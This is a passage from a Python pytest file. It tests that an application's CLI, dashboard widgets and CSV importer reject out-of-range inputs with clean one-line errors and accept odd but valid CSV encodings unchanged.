    missing = [fragment for fragment in case.expect if fragment not in shown]
    assert not missing, f"{missing} not in what was shown:\n{shown}"
    assert repository.table_counts() == before


def test_the_corpus_covers_every_surface_with_distinct_cases() -> None:
    names = [(c.surface, c.name) for c in CORPUS]
    assert len(set(names)) == len(names)
    by_surface = {s: sum(c.surface == s for c in CORPUS) for s in ("csv", "cli", "config", "widget", "export")}
    assert all(count >= 5 for count in by_surface.values()) and len(CORPUS) >= 40, by_surface


def test_real_processes_print_one_line_and_no_traceback(demo_store: str, tmp_path: Path) -> None:
    """Refusals from real `cli.py` processes, a usage error and a configuration error (started together: each
    spends seconds importing); the in-process cases above run the same `cli.main`."""
    base = os.environ.copy()
    runs = {
        "cli.py generate: error: argument --n: variants per user must be a whole number from 1 to 16":
            (["generate", "--item", "50", "--n", "100000", "--out", str(tmp_path)], base),
        "error: The database_url nonsense://db cannot be opened":
            (["datasets"], base | {"DATABASE_URL": "nonsense://db"}),
    }
    before = repository.table_counts()
    started = {message: subprocess.Popen([sys.executable, "cli.py", *argv], cwd=REPO, env=env, text=True,
                                         stdout=subprocess.PIPE, stderr=subprocess.PIPE)
               for message, (argv, env) in runs.items()}
    for message, process in started.items():
        out, err = process.communicate(timeout=300)
        assert process.returncode in (1, 2), (message, out, err)
        assert TRACEBACK not in err and err.splitlines()[0].startswith(message), err
    assert repository.table_counts() == before


def test_dashboard_number_inputs_stop_at_the_shared_limits(shared: dict) -> None:
    """A widget cannot send what the service would refuse: its range is the limit the CLI uses."""
    at = page("pages/reward_tuning.py")
    assert not at.exception, at.exception
    for key, field in (("steps", "max_steps"), ("lr", "learning_rate"), ("lora_r", "lora_r"), ("users", "users"),
                       ("generations", "num_generations"), ("batch", "prompts_per_step")):
        widget = at.number_input(key=key)
        assert (widget.min, widget.max) == limits.TUNING[field].bounds(), key
    with pytest.raises(ValueError, match="training steps must be a whole number from 1 to 100,000"):
        services.tuning.launch_run({"method": "grpo", "max_steps": 10_000_000})
    studio = page("pages/studio.py", {"studio_dataset": TINY, "studio_mode": "A segment"})
    assert studio.number_input(key="studio_max_users").max == limits.SEGMENT_USERS.high
    assert studio.slider(key="studio_n").max == limits.VARIANTS_PER_USER.high


def test_odd_but_valid_files_import_the_same_rows(empty_store: str) -> None:
    """What is not wrong is not refused: BOM, CRLF or CR-only lines, header case, quoted commas."""
    plain = (b"item_id,title\n1,\"Heat, the movie\"\n2,Babe\n", b"user_id,item_id,timestamp\nu1,1,1577923200\n")
    variants = {
        "bom-crlf": tuple(b"\xef\xbb\xbf" + f.replace(b"\n", b"\r\n") for f in plain),
        "cr-only": tuple(f.replace(b"\n", b"\r") for f in plain),
        "header-case": tuple(f.replace(b"item_id", b"Item_ID").replace(b"title", b" TITLE ") for f in plain),
    }
    services.audience.import_csv("plain", *plain)
    for name, (items_data, events_data) in variants.items():
        services.audience.import_csv(name, items_data, events_data)
        for read in (repository.items, repository.interactions):
            pd.testing.assert_frame_equal(read(name), read("plain"))
